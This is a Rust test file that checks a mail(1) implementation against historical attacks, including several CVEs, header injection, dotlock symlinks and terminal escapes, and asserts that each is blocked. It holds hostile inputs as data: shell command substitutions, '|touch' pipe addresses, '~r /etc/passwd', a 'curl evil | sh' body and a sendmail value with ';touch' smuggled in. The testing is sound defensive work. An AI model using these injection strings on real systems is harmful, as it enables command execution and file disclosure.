//! Attacks on mail(1), each test named after the historical attack or the
//! attack class it covers, asserting the safe outcome. Send-mode attacks on
//! the command line are in `tests/security_send.rs`; this file covers read
//! mode (replies to hostile messages, file-name commands, the `mail`
//! command), the terminal (escape sequences from message text), the
//! interactive composer (typed header values, editor temp files) and the
//! dotlock. SECURITY.md maps every defence to its test.
//!
//! Everything runs our binary only, in private directories, with the fake
//! sendmail of `examples/fakesm.rs` (it records argv and stdin).

mod common;
use common::*;

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::ExitStatusExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

/// One mbox message: `From_` line, the given header lines, a blank line, the body.
fn msg(headers: &str, body: &str) -> String {
    format!("From sender@x Mon Jan  1 10:00:00 2024\n{headers}\n\n{body}\n\n")
}

/// Writes `$T/home/box` and the rc file; returns the read-mode command
/// that `run_read` will run (`-n -f box` by default).
fn setup(t: &TempDir, mailbox: &[u8], rc: &str) {
    let home = t.join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(t.join("out")).unwrap();
    std::fs::write(home.join("box"), mailbox).unwrap();
    let rc = format!("set sendmail={}\n{rc}", fakesm().display());
    std::fs::write(
        t.join("rc"),
        rc.replace("$T", &t.path().display().to_string()),
    )
    .unwrap();
}

/// The environment every run gets (HOME, MAILRC, the fake sendmail's log).
fn base_env(c: &mut Command, t: &TempDir, lang: &str) {
    c.env_clear()
        .env("HOME", t.join("home"))
        .env("USER", "alice")
        .env("LOGNAME", "alice")
        .env("PATH", "/usr/bin:/bin")
        .env("SHELL", "/bin/sh")
        .env("LC_ALL", lang)
        .env("MAIL", t.join("home/spool"))
        .env("MAILRC", t.join("rc"))
        .env("FAKESM_OUT", t.join("out"))
        .current_dir(t.join("home"));
}

/// Runs read mode with `args` and the command script on (piped) stdin.
fn run_read(t: &TempDir, args: &[&str], script: &str, env: &[(&str, String)]) -> Outcome {
    let mut c = Command::new(ours());
    base_env(&mut c, t, "C.UTF-8");
    let script = script.replace("$T", &t.path().display().to_string());
    c.arg("-n")
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, v) in env {
        c.env(k, v);
    }
    let mut child = c.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let data = script.into_bytes();
    let w = std::thread::spawn(move || {
        use std::io::Write;
        let _ = stdin.write_all(&data);
    });
    let o = child.wait_with_output().unwrap();
    w.join().unwrap();
    collect_outcome(t, &o.status, o.stdout, o.stderr)
}

/// The header block of the n-th message sendmail read.
fn sent_head(o: &Outcome, n: usize) -> String {
    let data = o
        .sm_stdin
        .get(n)
        .cloned()
        .flatten()
        .unwrap_or_else(|| panic!("sendmail call {n} missing:\n{}", describe(o)));
    let text = String::from_utf8_lossy(&data).into_owned();
    text.split("\n\n").next().unwrap().to_string() + "\n"
}

/// Forgets what the fake sendmail recorded so far.
fn reset_out(t: &TempDir) {
    let _ = std::fs::remove_dir_all(t.join("out"));
    std::fs::create_dir_all(t.join("out")).unwrap();
}

/// Files whose existence would mean an attack worked.
fn assert_absent(t: &TempDir, names: &[&str]) {
    for n in names {
        assert!(
            !t.join(n).exists(),
            "{n} exists: something ran or was written"
        );
    }
}

/// What a run on a pseudo-terminal printed (raw bytes) and its exit status.
struct Tty {
    out: Vec<u8>,
    status: Option<i32>,
}

/// Runs our binary on a new pseudo-terminal (its controlling tty), typing
/// `keys` one chunk at a time. None when there are no ptys.
fn run_tty(
    t: &TempDir,
    args: &[&str],
    env: &[(&str, String)],
    lang: &str,
    keys: &[&str],
) -> Option<Tty> {
    let mut c = Command::new(ours());
    base_env(&mut c, t, lang);
    c.env("TERM", "dumb")
        .env("PAGER", "cat")
        .arg("-n")
        .args(args);
    for (k, v) in env {
        c.env(k, v);
    }
    let tp = t.path().display().to_string();
    let keys: Vec<Vec<u8>> = keys
        .iter()
        .map(|k| k.replace("$T", &tp).into_bytes())
        .collect();
    let keys: Vec<&[u8]> = keys.iter().map(|k| k.as_slice()).collect();
    let script = PtyScript {
        size: Some((24, 200)),
        keys: &keys,
        first_ms: 400,
        gap_ms: 300,
        timeout: Duration::from_secs(10),
    };
    let (status, out) = run_on_pty(c, &script)?;
    Some(Tty {
        out,
        status: status.code(),
    })
}

// ---------------------------------------------------------------------------
// CVE-2014-7844 and MTA option injection, read mode
// ---------------------------------------------------------------------------

/// `mail -oQ/x` typed as a read-mode command: the recipient is an address in
/// `To:`, never an option on sendmail's command line.
#[test]
fn cve_2014_7844_read_mode_mail_command_dash_recipient() {
    let t = TempDir::new("sec");
    setup(&t, msg("From: a@x\nSubject: s", "b").as_bytes(), "");
    let o = run_read(
        &t,
        &["-f", "box"],
        "mail -oQ$T/queue -C$T/cf b@x\nhello\n",
        &[],
    );
    assert_eq!(
        o.argv,
        vec![vec!["sendmail", "-i", "-t"]],
        "{}",
        describe(&o)
    );
    let head = sent_head(&o, 0);
    assert!(head.contains("-oQ$T/queue"), "{head}");
    assert_absent(&t, &["queue", "cf"]);
}

/// A reply to a message whose sender is `-oQ/path`: still only `-i -t`.
#[test]
fn cve_2014_7844_reply_to_sender_that_looks_like_an_option() {
    let t = TempDir::new("sec");
    let p = t.path().display().to_string();
    let m = msg(
        &format!("From: -oQ{p}/queue\nReply-To: -C{p}/cf\nCc: -X{p}/log\nSubject: s"),
        "b",
    ) + &msg(&format!("From: -oQ{p}/queue2\nSubject: t"), "b");
    setup(&t, m.as_bytes(), "");
    let o = run_read(&t, &["-f", "box"], "reply 1\nbody\n", &[]);
    assert_eq!(
        o.argv,
        vec![vec!["sendmail", "-i", "-t"]],
        "{}",
        describe(&o)
    );
    reset_out(&t);
    let o = run_read(&t, &["-f", "box"], "Reply 2\nbody\n", &[]);
    assert_eq!(
        o.argv,
        vec![vec!["sendmail", "-i", "-t"]],
        "{}",
        describe(&o)
    );
    assert!(sent_head(&o, 0).contains("To: -oQ$T/queue2"));
    assert_absent(&t, &["queue", "queue2", "cf", "log"]);
}

// ---------------------------------------------------------------------------
// CVE-2004-2771: shell expansion of file names
// ---------------------------------------------------------------------------

/// `$(...)` and backquotes in the file name of every command that takes
/// one: nothing runs; the answer is wordexp's clear error (as Debian's
/// bsd-mailx) or, when the shell word is split off, a literal file name.
#[test]
fn cve_2004_2771_file_name_commands_never_run_commands() {
    let t = TempDir::new("sec");
    setup(&t, msg("From: a@x\nSubject: s", "b").as_bytes(), "");
    let mut script = String::new();
    let mut markers = Vec::new();
    let cmds = [
        "save 1", "copy 1", "write 1", "file", "folder", "source", "echo",
    ];
    for (i, cmd) in cmds.iter().enumerate() {
        script.push_str(&format!("{cmd} $(touch${{IFS}}$T/p{i}a)\n"));
        script.push_str(&format!("{cmd} `touch${{IFS}}$T/p{i}b`\n"));
        script.push_str(&format!("{cmd} x;touch${{IFS}}$T/p{i}c\n"));
        script.push_str(&format!("{cmd} x|touch${{IFS}}$T/p{i}d\n"));
        for s in ["a", "b", "c", "d"] {
            markers.push(format!("p{i}{s}"));
        }
    }
    let o = run_read(&t, &["-f", "box"], &script, &[]);
    let m: Vec<&str> = markers.iter().map(|s| s.as_str()).collect();
    assert_absent(&t, &m);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.matches("Command execution not allowed.").count() >= 14,
        "{err}"
    );
}

/// `mail -f '$(cmd)'` on the command line: nothing runs.
#[test]
fn cve_2004_2771_dash_f_file_name_never_runs_commands() {
    let t = TempDir::new("sec");
    setup(&t, b"", "");
    let arg = format!("$(touch {}/pwned)", t.path().display());
    let o = run_read(&t, &["-f", &arg], "", &[]);
    assert_absent(&t, &["pwned"]);
    assert_ne!(o.status, 0, "{}", describe(&o));
    let arg = format!("`touch {}/pwned2`", t.path().display());
    let _ = run_read(&t, &["-f", &arg], "", &[]);
    assert_absent(&t, &["pwned2"]);
}

/// `~w`, `~r` and `~<` typed on a terminal with command substitution in the
/// file name: nothing runs.
#[test]
fn cve_2004_2771_tilde_w_and_r_file_names_never_run_commands() {
    let t = TempDir::new("sec");
    setup(&t, b"", "");
    let Some(o) = run_tty(
        &t,
        &["-s", "S", "a@x"],
        &[],
        "C.UTF-8",
        &[
            "line\n",
            "~w $(touch${IFS}$T/w1)\n",
            "~w `touch${IFS}$T/w2`\n",
            "~r $(touch${IFS}$T/r1)\n",
            "~< `touch${IFS}$T/r2`\n",
            "\x04",
        ],
    ) else {
        return;
    };
    assert_absent(&t, &["w1", "w2", "r1", "r2"]);
    let screen = String::from_utf8_lossy(&o.out);
    assert!(
        screen.matches("Command execution not allowed").count() >= 4,
        "{screen}"
    );
    assert_eq!(o.status, Some(0), "{screen}");
}

// ---------------------------------------------------------------------------
// CVE-2002-1271: tilde escapes in data
// ---------------------------------------------------------------------------

const ESCAPES: &str = "~!touch $T/bang\n~|tee $T/piped\n~r /etc/passwd\n~w $T/written\n~s new subject\n~b evil@x\n~c evil@x\n~t evil@x\n~e\n~v\n~q\n~x\nlast\n";

fn assert_escapes_inert(t: &TempDir, o: &Outcome) {
    assert_absent(t, &["bang", "piped", "written"]);
    let data = o.sm_stdin.first().cloned().flatten().expect("sent");
    let text = String::from_utf8_lossy(&data);
    let (head, body) = text.split_once("\n\n").unwrap();
    assert_eq!(body, ESCAPES, "body must be verbatim");
    assert!(!head.contains("evil"), "{head}");
    assert!(!head.contains("new subject"), "{head}");
}

/// Read mode's `mail` command with the body piped in: escapes are text.
#[test]
fn cve_2002_1271_read_mode_mail_command_piped_body() {
    let t = TempDir::new("sec");
    setup(&t, msg("From: a@x\nSubject: s", "b").as_bytes(), "");
    let o = run_read(&t, &["-f", "box"], &format!("mail b@x\n{ESCAPES}"), &[]);
    assert_escapes_inert(&t, &o);
}

/// `reply` in read mode with the body piped in: escapes are text.
#[test]
fn cve_2002_1271_read_mode_reply_piped_body() {
    let t = TempDir::new("sec");
    setup(&t, msg("From: a@x\nSubject: s", "b").as_bytes(), "");
    let o = run_read(&t, &["-f", "box"], &format!("reply 1\n{ESCAPES}"), &[]);
    assert_escapes_inert(&t, &o);
}

// ---------------------------------------------------------------------------
// Header injection
// ---------------------------------------------------------------------------

fn assert_no_injected_header(head: &str) {
    for l in head.lines() {
        let low = l.to_ascii_lowercase();
        assert!(
            !low.starts_with("bcc: evil") && !low.starts_with("x-evil"),
            "injected header line {l:?} in:\n{head}"
        );
    }
    assert!(!head.contains('\r'), "CR in header: {head:?}");
}

/// Replies to messages whose Subject, From, Reply-To, To and Cc carry CR,
/// CR LF or folded lines with a header in them: the reply's header block
/// gains no line.
#[test]
fn header_injection_reply_to_crlf_in_subject_from_replyto() {
    let t = TempDir::new("sec");
    let m = msg(
        "From: a@x\rBcc: evil1@x\nSubject: hi\rBcc: evil2@x\r\n X-Evil: 1\nCc: c@x\rBcc: evil3@x",
        "b",
    ) + &msg(
        "From: a@x\nReply-To: r@x\r\n\tBcc: evil4@x\nSubject: two\r\n\tBcc: evil5@x",
        "b",
    ) + &msg("From: a@x\r\n Bcc: evil6@x\nSubject: three", "b");
    setup(&t, m.as_bytes(), "");
    for cmd in [
        "reply 1",
        "Reply 1",
        "reply 2",
        "Reply 2",
        "reply 3",
        "followup 3",
    ] {
        let o = run_read(&t, &["-f", "box"], &format!("{cmd}\nbody\n"), &[]);
        assert_eq!(o.argv.len(), 1, "{cmd}: {}", describe(&o));
        let head = sent_head(&o, 0);
        assert_no_injected_header(&head);
        assert_eq!(
            head.lines().filter(|l| l.starts_with("Subject:")).count(),
            1,
            "{cmd}: {head}"
        );
        reset_out(&t);
    }
}

/// `~s`, `~t`, `~c`, `~b` values typed with a literal CR (^V ^M on the
/// terminal): no new header line.
#[test]
fn header_injection_tilde_s_and_t_typed_values() {
    let t = TempDir::new("sec");
    setup(&t, b"", "");
    let Some(o) = run_tty(
        &t,
        &["-s", "S", "a@x"],
        &[],
        "C.UTF-8",
        &[
            "~s new\x16\rBcc: evil1@x\n",
            "~t b@x\x16\rBcc: evil2@x\n",
            "~c c@x\x16\rX-Evil: 3\n",
            "~b d@x\x16\rX-Evil: 4\n",
            "body\n",
            "\x04",
        ],
    ) else {
        return;
    };
    let out = collect_outcome(
        &t,
        &std::process::ExitStatus::from_raw(o.status.unwrap_or(1) << 8),
        vec![],
        vec![],
    );
    let head = sent_head(&out, 0);
    assert_no_injected_header(&head);
    assert!(head.contains("Subject: new Bcc: evil1@x"), "{head}");
}

// ---------------------------------------------------------------------------
// CVE-2014-7844: addresses from a received message are data
// ---------------------------------------------------------------------------

/// Replies to a hostile message whose From, Reply-To, To and Cc are
/// `|command` and `/file` addresses, **with `expandaddr` set**: addresses
/// taken from a received message are never run or written (bsd-mailx runs
/// them). The user's own typed `|cmd` still works with expandaddr.
#[test]
fn cve_2014_7844_reply_to_pipe_and_file_senders_with_expandaddr() {
    let t = TempDir::new("sec");
    let p = t.path().display().to_string();
    let m = msg(
        &format!(
            "From: |touch {p}/pwned1\nReply-To: {p}/file1\nTo: |touch {p}/pwned2, {p}/file2\nCc: {p}/file3, +folder1\nSubject: one"
        ),
        "b",
    ) + &msg(
        &format!("From: \"|touch {p}/pwned3\" <|touch {p}/pwned4>\nSubject: two"),
        "b",
    ) + &msg(&format!("From: {p}/file4\nSubject: three"), "b")
        + &msg(
            &format!("From: |touch${{IFS}}{p}/pwned5\nSubject: four"),
            "b",
        );
    setup(&t, m.as_bytes(), &format!("set expandaddr\nset folder={p}"));
    let cmds = [
        "reply 1",
        "Reply 1",
        "reply 2",
        "Reply 2",
        "reply 3",
        "Reply 3",
        "reply 4",
        "Reply 4",
        "followup 3",
        "Followup 4",
    ];
    for cmd in cmds {
        let o = run_read(
            &t,
            &["-f", "box"],
            &format!("{cmd}\nbody\n"),
            &[("SHELL", "/bin/sh".into())],
        );
        assert_absent(
            &t,
            &[
                "pwned1", "pwned2", "pwned3", "pwned4", "pwned5", "file1", "file2", "file3",
                "file4", "folder1",
            ],
        );
        assert!(
            !String::from_utf8_lossy(&o.stderr).contains("Pipe to"),
            "{cmd}: {}",
            describe(&o)
        );
    }
    // Control: the user's own `|cmd` recipient still works with expandaddr.
    let o = run_read(
        &t,
        &["-f", "box"],
        "mail |cat>$T/mine\nbody\n",
        &[("SHELL", "/bin/sh".into())],
    );
    assert!(t.join("mine").exists(), "{}", describe(&o));
}

/// POSIX `Save`, `Copy` and `followup` name a file after the sender's login:
/// a sender `.bashrc@evil` must not get their text appended to `~/.bashrc`
/// (run at the next login), `.mailrc@evil` not to the rc file, `../x@evil`
/// not outside the directory; control characters never reach the name.
#[test]
fn save_by_sender_never_writes_dot_files_or_leaves_the_directory() {
    let t = TempDir::new("sec");
    let m = msg("From: .bashrc@evil\nSubject: s", "curl evil | sh")
        + &msg("From: .mailrc@evil\nSubject: s", "set sendmail=/tmp/evil")
        + &msg("From: ..@evil\nSubject: s", "b")
        + &msg("From: ../up@evil\nSubject: s", "b")
        + &msg("From: \x1b[2Jclear@evil\nSubject: s", "b");
    setup(&t, m.as_bytes(), "");
    let o = run_read(
        &t,
        &["-f", "box"],
        "Save 1\nCopy 2\nSave 3\nSave 4\nSave 5\nfollowup 1\nbody\n",
        &[],
    );
    assert_absent(&t, &["home/.bashrc", "home/.mailrc", "up", "home/up/.."]);
    assert!(t.join("home/bashrc").exists(), "{}", describe(&o));
    assert!(t.join("home/mailrc").exists(), "{}", describe(&o));
    assert!(t.join("home/up").exists(), "{}", describe(&o));
    assert!(t.join("home/[2Jclear").exists(), "{}", describe(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("No file specified."), "{out}");
    assert!(!o.stdout.contains(&0x1b), "{out:?}");
}

/// Debian advisory 2000-08-10: variables are not imported from the
/// environment (only a fixed list such as HOME, MAIL, SHELL, EDITOR is), so
/// a caller's environment cannot switch on `expandaddr` or `record`, or
/// replace `sendmail`.
#[test]
fn environment_does_not_set_mail_variables() {
    let t = TempDir::new("sec");
    setup(&t, b"", "");
    let p = t.path().display().to_string();
    let evil = format!("{p}/evil.sh");
    std::fs::write(&evil, format!("#!/bin/sh\ntouch {p}/evil-ran\n")).unwrap();
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut c = Command::new(ours());
    base_env(&mut c, &t, "C.UTF-8");
    c.env("expandaddr", "")
        .env("record", format!("{p}/rec"))
        .env("sendmail", &evil)
        .env("SENDMAIL", &evil)
        .args(["-n", "-s", "S", &format!("|touch {p}/pwned"), "a@x"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(b"body\n").unwrap();
    }
    let o = child.wait_with_output().unwrap();
    assert_absent(&t, &["pwned", "rec", "evil-ran"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(t.join("out/argv").exists(), "the configured sendmail ran");
}

// ---------------------------------------------------------------------------
// CVE-2017-5899 class: the dotlock path
// ---------------------------------------------------------------------------

/// The dotlock is `<mailbox>.lock` of the mailbox opened, made with an
/// O_EXCL temporary file and link(2): a mailbox reached through `..` or a
/// symbolic link locks next to the name used, and a `<mailbox>.lock`
/// symbolic link planted by someone else is never followed to create or
/// write a file (a stale one is removed as a link).
#[test]
fn cve_2017_5899_dotlock_path_is_mailbox_dot_lock() {
    let t = TempDir::new("sec");
    setup(&t, b"", "");
    let spool = msg("From: a@x\nSubject: s", "b");
    std::fs::create_dir_all(t.join("home/sub")).unwrap();
    std::fs::create_dir_all(t.join("victim")).unwrap();
    std::fs::write(t.join("victim/real"), &spool).unwrap();
    // The mailbox is a symlink into `victim`; it is named through `sub/..`.
    std::os::unix::fs::symlink(t.join("victim/real"), t.join("home/spool")).unwrap();
    // A planted, old dotlock symlink pointing where a file must not appear.
    std::os::unix::fs::symlink(t.join("victim/created"), t.join("home/spool.lock")).unwrap();
    let st = Command::new("touch")
        .args(["-h", "-d", "2 hours ago"])
        .arg(t.join("home/spool.lock"))
        .status()
        .unwrap();
    assert!(st.success());
    let via = t.join("home/sub/../spool");
    let o = run_read(&t, &[], "d 1\nq\n", &[("MAIL", via.display().to_string())]);
    assert_eq!(o.status, 0, "{}", describe(&o));
    // Nothing was created in the symlink's target directory...
    let mut names: Vec<String> = std::fs::read_dir(t.join("victim"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, vec!["real"], "files appeared next to the target");
    // ...the planted link was removed as stale (not followed) and our own
    // lock is gone again.
    assert!(std::fs::symlink_metadata(t.join("home/spool.lock")).is_err());
    let left: Vec<String> = std::fs::read_dir(t.join("home"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".lk") || n.ends_with(".lock"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// As an ordinary user, `MAIL` naming someone else's mailbox (here a
/// root-owned, even world-writable, file) is ignored: we never open, lock
/// (`<file>.lock`, through the setgid helper or not) or rewrite it.
#[test]
fn cve_2017_5899_mail_variable_cannot_aim_the_lock_at_anothers_mailbox() {
    // Root runs it as nobody: a second user is needed.
    require!(Req::Nobody);
    let Some(prefix) = unprivileged_prefix() else {
        return;
    };
    let t = TempDir::new("sec");
    std::fs::set_permissions(t.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let other = t.join("other");
    let text = msg("From: a@x\nSubject: s", "b");
    std::fs::write(&other, &text).unwrap();
    std::fs::set_permissions(&other, std::fs::Permissions::from_mode(0o666)).unwrap();
    let bin = t.join("mailx");
    std::fs::copy(ours(), &bin).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut c = Command::new(&prefix[0]);
    c.args(&prefix[1..])
        .arg(&bin)
        .arg("-n")
        .env_clear()
        .env("HOME", t.path())
        .env("PATH", "/usr/bin:/bin")
        .env("MAIL", &other)
        .env("MAILRC", "/dev/null")
        .current_dir(t.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    {
        use std::io::Write;
        let _ = child.stdin.take().unwrap().write_all(b"d 1\nq\n");
    }
    let o = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(std::fs::read(&other).unwrap(), text.as_bytes(), "{err}");
    assert!(!t.join("other.lock").exists());
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains(&other.display().to_string()),
        "the other mailbox was opened"
    );
}

// ---------------------------------------------------------------------------
// Terminal escape injection
// ---------------------------------------------------------------------------

/// A message full of terminal controls: CSI, OSC (title set), a raw C1 CSI
/// (0x9b) byte and the same as UTF-8 (U+009B), bidi overrides.
fn hostile_mailbox() -> Vec<u8> {
    let mut v = Vec::new();
    v.extend_from_slice(b"From evil@x Mon Jan  1 10:00:00 2024\n");
    v.extend_from_slice(b"From: \x1b]0;owned\x07Eve \x1b[2J<evil@x>\n");
    v.extend_from_slice(
        b"Subject: \x1b[31mred\x1b[0m \x9b31m c1 \xc2\x9b31m u+9b \xe2\x80\xaegnp.exe \xe2\x81\xa7iso\n",
    );
    v.extend_from_slice(b"To: alice@x\n\n");
    v.extend_from_slice(b"body \x1b[5m blink \x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\\n");
    v.extend_from_slice(b"c1 \x9b2J and \xc2\x9d osc and \xc2\x85 nel\n");
    v.extend_from_slice(b"bidi \xe2\x80\xaeevil\xe2\x80\xac \xe2\x80\x8f rlm\n\n");
    v
}

/// The bytes that must never reach the terminal from message text.
fn terminal_violations(out: &[u8], utf8: bool) -> Vec<String> {
    let mut bad = Vec::new();
    if out.contains(&0x1b) {
        bad.push("raw ESC (0x1b)".to_string());
    }
    if utf8 {
        for ch in String::from_utf8_lossy(out).chars() {
            let c = ch as u32;
            if (0x80..0xa0).contains(&c) {
                bad.push(format!("C1 control U+{c:04X}"));
            }
            if matches!(c, 0x202a..=0x202e | 0x2066..=0x2069) {
                bad.push(format!("bidi control U+{c:04X}"));
            }
        }
        // A raw (non-UTF-8) C1 byte.
        let mut rest = out;
        while !rest.is_empty() {
            match std::str::from_utf8(rest) {
                Ok(_) => break,
                Err(e) => {
                    let (_, b) = rest.split_at(e.valid_up_to());
                    if (0x80..0xa0).contains(&b[0]) {
                        bad.push(format!("raw C1 byte {:#x}", b[0]));
                    }
                    rest = &b[e.error_len().unwrap_or(b.len()).max(1)..];
                }
            }
        }
    } else if let Some(b) = out.iter().find(|&&b| (0x80..0xa0).contains(&b)) {
        bad.push(format!("raw C1 byte {b:#x}"));
    }
    bad
}

/// Every way read mode shows message text on a terminal (summary, `print`
/// and friends, the reply preview, `~p`, `~m`, `~h`), in a UTF-8 and in the
/// C locale: no raw ESC, C1 or (UTF-8) bidi control reaches it.
#[test]
fn terminal_escapes_never_reach_the_terminal() {
    for lang in ["C.UTF-8", "C"] {
        let t = TempDir::new("sec");
        setup(&t, &hostile_mailbox(), "");
        let Some(o) = run_tty(
            &t,
            &["-f", "box"],
            &[],
            lang,
            &[
                "h\n",
                "f\n",
                "p 1\n",
                "P 1\n",
                "t 1\n",
                "top 1\n",
                "more 1\n",
                "=\n",
                "reply 1\n",
                "~p\n",
                "~m 1\n",
                "~p\n",
                "~h\n",
                "\n",
                "\n",
                "\n",
                "\n",
                "~q\n",
                "x\n",
            ],
        ) else {
            return;
        };
        let screen = String::from_utf8_lossy(&o.out);
        assert!(
            screen.contains("blink"),
            "{lang}: the body was not shown: {screen}"
        );
        assert!(
            screen.contains("Subject: Re:"),
            "{lang}: no reply preview: {screen}"
        );
        let bad = terminal_violations(&o.out, lang != "C");
        assert!(bad.is_empty(), "{lang}: {bad:?} in:\n{screen:?}");
    }
}

// ---------------------------------------------------------------------------
// Temporary files
// ---------------------------------------------------------------------------

/// The editor temp files of `~e`/`~v` (composer) and `edit`/`visual` (read
/// mode) are 0600 regular files in `$TMPDIR`, created by us (O_EXCL), and
/// gone afterwards.
#[test]
fn temp_files_are_0600_and_exclusive() {
    let t = TempDir::new("sec");
    setup(&t, msg("From: a@x\nSubject: s", "b").as_bytes(), "");
    let tmp = t.join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let ed = t.join("ed.sh");
    std::fs::write(
        &ed,
        format!(
            "#!/bin/sh\nstat -c '%a %F %h' \"$1\" >> {0}/modes\necho \"$1\" >> {0}/names\necho edited >> \"$1\"\n",
            t.path().display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&ed, std::fs::Permissions::from_mode(0o755)).unwrap();
    let env = [
        ("EDITOR", ed.display().to_string()),
        ("VISUAL", ed.display().to_string()),
        ("TMPDIR", tmp.display().to_string()),
    ];
    let Some(o) = run_tty(
        &t,
        &["-s", "S", "a@x"],
        &env,
        "C.UTF-8",
        &["line\n", "~e\n", "~v\n", "\x04"],
    ) else {
        return;
    };
    assert_eq!(o.status, Some(0), "{}", String::from_utf8_lossy(&o.out));
    let o2 = run_read(&t, &["-f", "box"], "edit 1\nvisual 1\nq\n", &env);
    assert_eq!(o2.status, 0, "{}", describe(&o2));
    let modes = std::fs::read_to_string(t.join("modes")).unwrap();
    assert_eq!(
        modes,
        "600 regular file 1\n".repeat(4),
        "editor temp files must be private regular files"
    );
    let names = std::fs::read_to_string(t.join("names")).unwrap();
    for n in names.lines() {
        assert!(
            n.starts_with(&tmp.display().to_string()),
            "{n} not in TMPDIR"
        );
        assert!(!Path::new(n).exists(), "{n} left behind");
    }
    // Nothing else is left in TMPDIR.
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0);
}

// ---------------------------------------------------------------------------
// No shell between us and sendmail (read mode; send mode: security_send.rs)
// ---------------------------------------------------------------------------

#[test]
fn no_shell_between_mail_and_sendmail_in_read_mode() {
    let t = TempDir::new("sec");
    setup(&t, msg("From: a@x\nSubject: s", "b").as_bytes(), "");
    std::fs::write(
        t.join("rc"),
        format!(
            "set sendmail=\"/bin/true;touch {0}/pwned\"\n",
            t.path().display()
        ),
    )
    .unwrap();
    let o = run_read(&t, &["-f", "box"], "reply 1\nbody\n", &[]);
    assert_absent(&t, &["pwned"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("/bin/true;touch $T/pwned: No such file or directory"),
        "{err}"
    );
    assert!(o.dead.as_ref().is_some_and(|d| d.ends_with(b"body\n")));
}
